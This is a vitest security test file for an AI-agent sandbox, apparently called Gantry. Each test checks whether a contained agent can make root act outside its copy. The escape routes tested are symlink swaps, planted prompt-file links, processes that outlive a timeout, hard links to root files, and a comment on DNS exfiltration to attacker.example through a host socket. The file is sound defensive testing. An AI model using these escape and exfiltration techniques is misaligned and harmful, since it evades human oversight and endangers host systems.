import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:http';
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  statSync,
  readFileSync,
  readdirSync,
  writeFileSync,
  existsSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { startContainment } from '../../src/action/sandbox/containment.js';
import { buildBundle, runActionAsync } from '../support/action-runner.js';
import { makeRepo } from '../support/git-repo.js';
import { task } from '../support/plans.js';

/**
 * Review findings (issue 15): ways a contained agent, or a criterion running its code, still makes
 * Gantry (root) act outside the agent's copy. Each test fails while the hole is open.
 */
const isRoot = process.getuid?.() === 0;

describe.skipIf(!isRoot)('a contained agent cannot make root act outside its copy', () => {
  let bundle: string;
  beforeAll(() => {
    bundle = buildBundle();
  });

  const agentJob = (
    repo: ReturnType<typeof makeRepo>,
    command: string,
    criterion: string,
    extra: Record<string, string> = {},
  ) =>
    runActionAsync(bundle, repo.dir, {
      mode: 'agent',
      goal: '7',
      attempt: '1',
      'base-sha': repo.base,
      task: JSON.stringify(task('T1', [], { criteria: [{ kind: 'command', run: criterion }] })),
      backend: 'command',
      command,
      'criteria-iterations': '1',
      ...extra,
    });

  it('a criterion that swaps its tree for a link does not make root clean or write the link target', async () => {
    // Root's own directory, which the agent cannot even read.
    const victim = mkdtempSync(join(tmpdir(), 'gantry-victim-'));
    writeFileSync(join(victim, 'precious.txt'), 'root data\n');
    const repo = makeRepo({ 'a.txt': 'a\n' });
    // The agent's work (frozen into the index), then a criterion that replaces the agent's tree
    // (its parent belongs to the agent) with a link to the victim, before Gantry's restore.
    const run = await agentJob(
      repo,
      'echo planted-by-agent > planted.txt',
      `t=$PWD; mv "$t" "$t.moved" && ln -s ${victim} "$t"; echo swapped`,
    );
    const left = readdirSync(victim);
    expect({ left, precious: existsSync(join(victim, 'precious.txt')) }, run.stdout).toEqual({
      left: ['precious.txt'],
      precious: true,
    });
  });

  it("root's prompt file does not follow a link the agent planted in its temp", async () => {
    const victim = mkdtempSync(join(tmpdir(), 'gantry-victim-'));
    const target = join(victim, 'root-owned.conf');
    writeFileSync(target, 'original\n');
    const repo = makeRepo({ 'a.txt': 'a\n' });
    // Round 1 plants $TMPDIR/prompt-2.md -> the victim; the failing criterion asks for round 2.
    const run = await agentJob(
      repo,
      `ln -sf ${target} "$TMPDIR/prompt-2.md"; echo x >> b.txt`,
      'false',
      { 'criteria-iterations': '2' },
    );
    expect(readFileSync(target, 'utf8'), run.stdout).toBe('original\n');
  });

  it('a criterion that times out leaves no process behind, even one that left its process group', async () => {
    const marker = `gantry-linger-${process.pid}-${Date.now()}`;
    const repo = makeRepo({ 'a.txt': 'a\n' });
    const pids = () =>
      execFileSync('pgrep', ['-f', marker], { encoding: 'utf8' }).split('\n').filter(Boolean);
    let left: string[] = [];
    try {
      // PID 1 of the criterion's namespace leaves the group Gantry kills on timeout. `--kill-child`
      // does not save it: its parent-death signal was cleared when setpriv changed its uid.
      const run = await runActionAsync(bundle, repo.dir, {
        mode: 'agent',
        goal: '7',
        attempt: '1',
        'base-sha': repo.base,
        task: JSON.stringify(
          task('T1', [], {
            criteria: [
              {
                kind: 'command',
                run: `exec setsid bash -c 'sleep 600; :' ${marker}`,
                timeoutSec: 1,
              },
            ],
          }),
        ),
        backend: 'command',
        command: 'echo x > b.txt',
        'criteria-iterations': '1',
      });
      left = (() => {
        try {
          return pids();
        } catch {
          return [];
        }
      })();
      expect(left, run.stdout).toEqual([]);
    } finally {
      for (const pid of left) process.kill(Number(pid), 'SIGKILL');
    }
  });

  it("a host service's Unix socket (as systemd-resolved's is) is no way out of the agent's network", async () => {
    // A world-usable socket of a host service that talks to the network for its clients, as
    // /run/systemd/resolve/io.systemd.Resolve and /run/dbus/system_bus_socket are on the hosted
    // runners' Ubuntu (resolvectl query <data>.attacker.example sends a DNS query from the host).
    // Under /run, where host services keep theirs.
    const dir = mkdtempSync('/run/gantry-hostsvc-');
    chmodSync(dir, 0o755);
    const path = join(dir, 'service.sock');
    const service = createServer((_req, res) => res.end('reached-the-host-network'));
    service.listen(path);
    await once(service, 'listening');
    chmodSync(path, 0o666);
    try {
      const repo = makeRepo({ 'a.txt': 'a\n' });
      const run = await agentJob(
        repo,
        `curl -sS -m 5 --unix-socket ${path} http://x/ > got.txt 2>&1; true`,
        'true',
      );
      const patch = readFileSync(join(run.outputs['result-dir']!, 'gantry.patch'), 'utf8');
      expect(patch, run.stdout).not.toContain('reached-the-host-network');
    } finally {
      service.close();
    }
  });

  it("a hard link to a file of root's is not handed to the agent, and without the kernel's protection nothing is contained", async () => {
    const victim = mkdtempSync('/home/gantry-victim-');
    chmodSync(victim, 0o755);
    const target = join(victim, 'root-owned.conf');
    writeFileSync(target, 'original\n');
    const repo = makeRepo({ 'a.txt': 'a\n' });
    // The agent links root's file into its copy; the criterion leaves the link for root's chown.
    const run = await agentJob(repo, `ln ${target} linked.conf; echo x > b.txt`, 'true');
    expect(statSync(target).uid, run.stdout).toBe(0);
    expect(readFileSync(target, 'utf8')).toBe('original\n');

    const procSys = mkdtempSync(join(tmpdir(), 'gantry-sys-'));
    mkdirSync(join(procSys, 'fs'));
    writeFileSync(join(procSys, 'fs', 'protected_hardlinks'), '0\n');
    await expect(startContainment({ allow: [], hide: [], procSys })).rejects.toThrow(
      /cannot be contained safely: the kernel setting fs\.protected_hardlinks is 0, .*sysctl -w fs\.protected_hardlinks=1/,
    );
    rmSync(join(procSys, 'fs', 'protected_hardlinks'));
    await expect(startContainment({ allow: [], hide: [], procSys })).rejects.toThrow(
      /fs\.protected_hardlinks cannot be read at .*agent\.isolation: unisolated/,
    );
  });
});
